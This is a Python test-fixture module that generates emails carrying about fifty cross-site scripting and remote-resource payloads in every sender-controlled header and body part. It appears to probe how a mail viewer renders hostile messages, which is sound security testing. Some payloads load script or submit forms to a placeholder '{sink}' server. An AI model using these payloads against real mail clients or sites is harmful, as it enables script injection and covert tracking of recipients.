"""Mail that attacks the program that shows it: payloads in everything that a sender controls.

`{sink}` in a payload is a server that counts who comes; `zzran()` is what a script would call. `messages(sink)` gives
(field, payload, message) triples; each message has its number in the subject.
"""

import base64

PAYLOADS = [
    "<script>zzran(1)</script>",
    "</title><script>zzran(1)</script>",
    "</textarea><script>zzran(1)</script>",
    "\"><script>zzran(1)</script>",
    "'><script>zzran(1)</script>",
    "--><script>zzran(1)</script>",
    "]]><script>zzran(1)</script>",
    "<script src=http://{sink}/s.js></script>",
    "<ScRiPt>zzran(1)</sCrIpT>",
    "<scr<script>ipt>zzran(1)</scr</script>ipt>",
    "<img src=x onerror=zzran(1)>",
    "<img src=http://{sink}/i.png>",
    "\"><img src=x onerror=zzran(1)>",
    "\" autofocus onfocus=zzran(1) x=\"",
    "' onmouseover='zzran(1)' style='position:fixed;inset:0' x='",
    "<svg onload=zzran(1)>",
    "<svg><script>zzran(1)</script></svg>",
    "<svg><animate onbegin=zzran(1) attributeName=x dur=1s>",
    "<svg><image href=http://{sink}/i.svg /></svg>",
    "<svg><use href=http://{sink}/u.svg#x /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=zzran(1)>",
    "<body onload=zzran(1)>",
    "<iframe src=javascript:parent.zzran(1)></iframe>",
    "<iframe srcdoc='<script>parent.zzran(1)</script>'></iframe>",
    "<iframe src=http://{sink}/f></iframe>",
    "<object data=http://{sink}/o></object>",
    "<embed src=http://{sink}/e>",
    "<link rel=stylesheet href=http://{sink}/l.css>",
    "<link rel=prefetch href=http://{sink}/p>",
    "<link rel=dns-prefetch href=//zzevil.invalid>",
    "<style>@import url(http://{sink}/c.css);</style>",
    "<style>body{{background:url(http://{sink}/b.png)}}</style>",
    "<div style='background:url(http://{sink}/d.png)'>x</div>",
    "<meta http-equiv=refresh content='0;url=http://{sink}/m'>",
    "<base href=http://{sink}/>",
    "<form action=http://{sink}/x id=f><input name=a></form><script>f.submit()</script>",
    "<a href=javascript:zzran(1)>click</a>",
    "<details open ontoggle=zzran(1)>",
    "<video autoplay onplay=zzran(1)><source src=http://{sink}/v onerror=zzran(1)></video>",
    "<audio src=http://{sink}/a autoplay>",
    "<input autofocus onfocus=zzran(1)>",
    "<marquee onstart=zzran(1)>x</marquee>",
    "<template><script>zzran(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=zzran(1)>'>",
    "{{{{constructor.constructor('zzran(1)')()}}}}",
    "javascript:zzran(1)//",
    "data:text/html,<script>zzran(1)</script>",
    "\u2028<img src=x onerror=zzran(1)>",
    "\u202e<script>zzran(1)</script>",
    "+ADw-script+AD4-zzran(1)+ADw-/script+AD4-",
]
FIELDS = ["from name", "from address", "subject", "message-id", "attachment", "received", "text", "page", "list"]


def word(text):
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def message(number, field, payload):
    """One with the payload in this field; it is held back, so that reasons, text, links and preview are shown."""
    raw = payload.replace("\u2028", " ").replace("\u202e", " ")
    value = {name: "harmless" for name in FIELDS}
    value[field] = payload
    address = '"' + raw.replace("\\", "\\\\").replace('"', '\\"') + '"@example.org' if field == "from address" else f"s{number}@example.org"
    page = value["page"] if field == "page" else "<p>harmless</p>"
    text = value["text"] if field == "text" else "harmless"
    name = word(value["attachment"])
    return "\r\n".join([
        f"Received: from {raw if field == 'received' else 'a.example'} by mx.example.com; Mon, 02 Nov 2026 10:00:00 +0000",
        f"From: {word(value['from name'])} <{address}>",
        "To: ann@example.net",
        f"Subject: {word(f'hostile {number} ' + value['subject'])}",
        "Date: Mon, 02 Nov 2026 10:00:00 +0000",
        f"Message-ID: <{raw if field == 'message-id' else number}@example.org>",
        f"List-Unsubscribe: <{raw if field == 'list' else 'https://example.org/'}>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"', "", "--b",
        "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "",
        base64.b64encode(f"{text} zzheldzz".encode()).decode(), "--b",
        "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "",
        base64.b64encode(f"<html><body>{page}<p>zzheldzz</p></body></html>".encode()).decode(), "--b",
        f'Content-Type: application/pdf; name="{name}"',
        f'Content-Disposition: attachment; filename="{name}"', "Content-Transfer-Encoding: base64", "",
        base64.b64encode(b"%PDF-1.4").decode(), "--b--", "",
    ]).encode()


def messages(sink):
    found = []
    for field in FIELDS:
        for payload in PAYLOADS:
            payload = payload.format(sink=sink)
            found.append((field, payload, message(len(found), field, payload)))
    return found
